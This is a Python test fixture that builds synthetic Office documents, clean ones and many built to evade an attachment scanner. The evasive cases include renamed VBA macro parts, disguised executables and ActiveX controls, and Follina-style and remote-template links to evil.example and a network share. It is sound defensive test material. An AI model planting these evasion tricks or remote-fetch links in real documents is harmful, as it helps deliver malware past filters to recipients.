"""A synthetic corpus of Office Open XML packages, built in code with ``zipfile``: clean ones and every trick refused.

Each package is as small as Office's own structure allows: ``[Content_Types].xml``,
the package relationships naming the main document, the main document and its
relationships. ``ooxml()`` adds parts, content types and relationships on top,
so each case states only what makes it dangerous.
"""

import io
import zipfile
from dataclasses import dataclass, field

from subjects.services import attachments, office

CONTENT_TYPES_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONSHIPS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_RELS = "http://schemas.microsoft.com/office/2006/relationships"

# The three kinds of package: main part and its content type.
_OPENXML = "application/vnd.openxmlformats-officedocument"
KINDS = {
    "docx": ("word/document.xml", f"{_OPENXML}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{_OPENXML}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{_OPENXML}.presentationml.presentation.main+xml"),
}
MACRO_MAIN = {
    "docx": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "xlsx": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "pptx": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
}
VBA_PROJECT = "application/vnd.ms-office.vbaProject"
ACTIVEX = "application/vnd.ms-office.activeX+xml"
OLE_OBJECT = f"{_OPENXML}.oleObject"
EXE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xffThis program cannot be run in DOS mode." + b"\x00" * 40
OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True)
class Rel:
    """A relationship of the main document: its type (a full URI, or a name under OFFICE_RELS) and target."""

    type: str
    target: str
    external: bool = False

    @property
    def uri(self) -> str:
        return self.type if "/" in self.type else f"{OFFICE_RELS}/{self.type}"


@dataclass
class Package:
    kind: str = "docx"
    main_content_type: str = ""
    parts: dict[str, bytes] = field(default_factory=dict)
    overrides: dict[str, str] = field(default_factory=dict)
    defaults: dict[str, str] = field(default_factory=dict)
    rels: list[Rel] = field(default_factory=list)


def ooxml(kind: str = "docx", **changes) -> bytes:
    """The bytes of a minimal package of ``kind`` with ``changes`` (the fields of ``Package``) on top."""
    package = Package(kind=kind, **changes)
    main_part, main_type = KINDS[kind]
    folder = main_part.split("/", 1)[0]
    overrides = {f"/{main_part}": package.main_content_type or main_type, **package.overrides}
    defaults = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"}
    defaults.update(package.defaults)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _content_types(defaults, overrides))
        archive.writestr("_rels/.rels", _relationships([Rel("officeDocument", main_part)]))
        archive.writestr(main_part, f'<?xml version="1.0" encoding="UTF-8"?><{folder} xmlns="urn:x"/>')
        archive.writestr(f"{folder}/_rels/{main_part.rsplit('/', 1)[-1]}.rels", _relationships(package.rels))
        for name, content in package.parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _content_types(defaults: dict[str, str], overrides: dict[str, str]) -> str:
    items = [f'<Default Extension="{ext}" ContentType="{ct}"/>' for ext, ct in defaults.items()]
    items += [f'<Override PartName="{name}" ContentType="{ct}"/>' for name, ct in overrides.items()]
    return f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CONTENT_TYPES_NS}">{"".join(items)}</Types>'


def _relationships(rels: list[Rel]) -> str:
    items = [
        f'<Relationship Id="rId{n}" Type="{rel.uri}" Target="{rel.target}"'
        + (' TargetMode="External"' if rel.external else "")
        + "/>"
        for n, rel in enumerate(rels, start=1)
    ]
    body = "".join(items)
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELATIONSHIPS_NS}">{body}</Relationships>'


def plain_zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def ole_compound(*stream_names: str) -> bytes:
    """Enough of an OLE2 compound file for the check: the magic, then directory entries naming ``stream_names``."""
    entries = b"".join(name.encode("utf-16-le").ljust(64, b"\x00") + b"\x00" * 64 for name in stream_names)
    return OLE2_MAGIC + b"\x00" * 504 + entries


PNG_BYTES = b"\x89PNG\r\n\x1a\n" + b"\x00" * 24

# ------------------------------------------------------------------------------
# The corpus
# ------------------------------------------------------------------------------
CLEAN_DOCX = ooxml()
CLEAN_XLSX = ooxml("xlsx")
XLSM = ooxml(
    "xlsx",
    main_content_type=MACRO_MAIN["xlsx"],
    parts={"xl/vbaProject.bin": OLE2_MAGIC},
    overrides={"/xl/vbaProject.bin": VBA_PROJECT},
    rels=[Rel(f"{MS_RELS}/vbaProject", "vbaProject.bin")],
)

ACCEPTED = {
    "clean docx": CLEAN_DOCX,
    "docx with an image and a web link": ooxml(
        parts={"word/media/image1.png": PNG_BYTES},
        defaults={"png": "image/png"},
        rels=[Rel("image", "media/image1.png"), Rel("hyperlink", "https://www.gov.uk/", external=True)],
    ),
    "docx with an embedded clean workbook": ooxml(
        parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": CLEAN_XLSX},
        defaults={"xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
        rels=[Rel("package", "embeddings/Microsoft_Excel_Worksheet.xlsx")],
    ),
    "docx based on a template on the local disk": ooxml(
        rels=[Rel("attachedTemplate", "file:///C:/Templates/Letter.dotx", external=True)]
    ),
}

M, A, X, E, U = (
    office.MACROS_MESSAGE,
    office.ACTIVEX_MESSAGE,
    office.EXECUTABLE_MESSAGE,
    office.EXTERNAL_MESSAGE,
    office.UNREADABLE_MESSAGE,
)
REFUSED = {
    # Macros, by name, content type or relationship, whatever the part is called.
    "docm: vbaProject.bin, its content type and relationship": (
        ooxml(
            main_content_type=MACRO_MAIN["docx"],
            parts={"word/vbaProject.bin": OLE2_MAGIC},
            overrides={"/word/vbaProject.bin": VBA_PROJECT},
            rels=[Rel(f"{MS_RELS}/vbaProject", "vbaProject.bin")],
        ),
        M,
    ),
    "lower-case word/vbaproject.bin with a vbaProject relationship": (
        ooxml(parts={"word/vbaproject.bin": b"x"}, rels=[Rel(f"{MS_RELS}/vbaProject", "vbaproject.bin")]),
        M,
    ),
    "VBAProject.BIN in another folder, declared as nothing": (ooxml(parts={"customXml/VBAProject.BIN": b"x"}), M),
    "macro renamed word/other.bin, content type vbaProject": (
        ooxml(parts={"word/other.bin": OLE2_MAGIC}, overrides={"/word/other.bin": VBA_PROJECT}),
        M,
    ),
    "macro renamed, the .bin default content type is vbaProject": (
        ooxml(parts={"word/other.bin": OLE2_MAGIC}, defaults={"bin": VBA_PROJECT}),
        M,
    ),
    "macro renamed, only its relationship says vbaProject": (
        ooxml(
            parts={"word/other.dat": b"x"},
            defaults={"dat": "application/octet-stream"},
            rels=[Rel(f"{MS_RELS}/VBAPROJECT", "other.dat")],
        ),
        M,
    ),
    "macro-enabled main document without a VBA part": (ooxml(main_content_type=MACRO_MAIN["docx"]), M),
    "Word VBA data part": (
        ooxml(parts={"word/data.xml": b"<x/>"}, overrides={"/word/data.xml": "application/vnd.ms-word.vbaData+xml"}),
        M,
    ),
    "embedded OLE object holding a VBA project": (
        ooxml(
            parts={"word/embeddings/oleObject1.bin": ole_compound("Root Entry", "_VBA_PROJECT")},
            defaults={"bin": OLE_OBJECT},
            rels=[Rel("oleObject", "embeddings/oleObject1.bin")],
        ),
        M,
    ),
    "embedded macro workbook (xlsm inside a docx)": (
        ooxml(parts={"word/embeddings/Workbook.xlsx": XLSM}, rels=[Rel("package", "embeddings/Workbook.xlsx")]),
        M,
    ),
    # ActiveX.
    "ActiveX control part and relationship": (
        ooxml(
            parts={"word/activeX/activeX1.xml": b"<ax/>"},
            overrides={"/word/activeX/activeX1.xml": ACTIVEX},
            rels=[Rel("control", "activeX/activeX1.xml")],
        ),
        A,
    ),
    "ActiveX control renamed, only its relationship says control": (
        ooxml(parts={"word/thing.xml": b"<ax/>"}, rels=[Rel("control", "thing.xml")]),
        A,
    ),
    "ActiveX binary declared by content type only": (
        ooxml(parts={"word/blob.bin": b"x"}, overrides={"/word/blob.bin": "application/vnd.ms-office.activeX"}),
        A,
    ),
    # Embedded programs.
    "embedded .exe as a package": (
        ooxml(parts={"word/embeddings/setup.exe": EXE_BYTES}, rels=[Rel("package", "embeddings/setup.exe")]),
        X,
    ),
    "oleObject relationship to an upper-case .EXE": (
        ooxml(rels=[Rel("oleObject", "embeddings/Tool.EXE")]),
        X,
    ),
    "oleObject relationship to a .ps1": (ooxml(rels=[Rel("oleObject", "embeddings/run.ps1")]), X),
    "embedded part starting MZ under a harmless name": (
        ooxml(parts={"word/media/image1.png": EXE_BYTES}, defaults={"png": "image/png"}),
        X,
    ),
    "OLE Packager object (can carry any file)": (
        ooxml(
            parts={"word/embeddings/oleObject1.bin": ole_compound("Root Entry", "\x01Ole10Native")},
            defaults={"bin": OLE_OBJECT},
            rels=[Rel("oleObject", "embeddings/oleObject1.bin")],
        ),
        X,
    ),
    "embedded plain zip": (
        ooxml(parts={"word/embeddings/archive.dat": plain_zip({"readme.txt": b"hi"})}),
        X,
    ),
    # Fetching from elsewhere when opened.
    "oleObject linked to a web page (Follina)": (
        ooxml(rels=[Rel("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/", external=True)]),
        E,
    ),
    "template fetched from the internet": (
        ooxml(rels=[Rel("attachedTemplate", "https://evil.example/t.dotm", external=True)]),
        E,
    ),
    "template fetched from a network share": (
        ooxml(rels=[Rel("attachedTemplate", "\\\\203.0.113.9\\share\\t.dotm", external=True)]),
        E,
    ),
    # Built to trick a parser.
    "XML with a DTD (entity expansion)": (
        plain_zip(
            {
                "[Content_Types].xml": b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaa">]><Types>&a;</Types>',
                "word/document.xml": b"<w/>",
            }
        ),
        U,
    ),
    "two members differing only in case": (
        ooxml(parts={"WORD/document.xml": b"<w/>"}),
        U,
    ),
    # The same tricks in a spreadsheet and a presentation.
    "xlsm with xl/vbaProject.bin": (XLSM, M),
    "xlsx with the macro part renamed": (
        ooxml("xlsx", parts={"xl/data.bin": b"x"}, overrides={"/xl/data.bin": VBA_PROJECT}),
        M,
    ),
    "xlsx with an Excel 4 macro sheet": (
        ooxml(
            "xlsx",
            parts={"xl/macrosheets/sheet1.xml": b"<m/>"},
            overrides={"/xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
        ),
        M,
    ),
    "pptx with an ActiveX control": (
        ooxml("pptx", parts={"ppt/activeX/activeX1.xml": b"<ax/>"}, rels=[Rel("control", "activeX/activeX1.xml")]),
        A,
    ),
    "pptx with an embedded .exe": (
        ooxml("pptx", parts={"ppt/embeddings/a.bin": EXE_BYTES}, rels=[Rel("oleObject", "embeddings/a.bin")]),
        X,
    ),
    # Safe but not a type this system takes.
    "clean xlsx": (CLEAN_XLSX, attachments.NOT_ALLOWED_MESSAGE),
    "clean pptx": (ooxml("pptx"), attachments.NOT_ALLOWED_MESSAGE),
    "legacy .doc (OLE2)": (ole_compound("Root Entry", "WordDocument"), attachments.NOT_ALLOWED_MESSAGE),
    "zip with no content types": (plain_zip({"word/document.xml": b"<w/>"}), attachments.NOT_ALLOWED_MESSAGE),
}
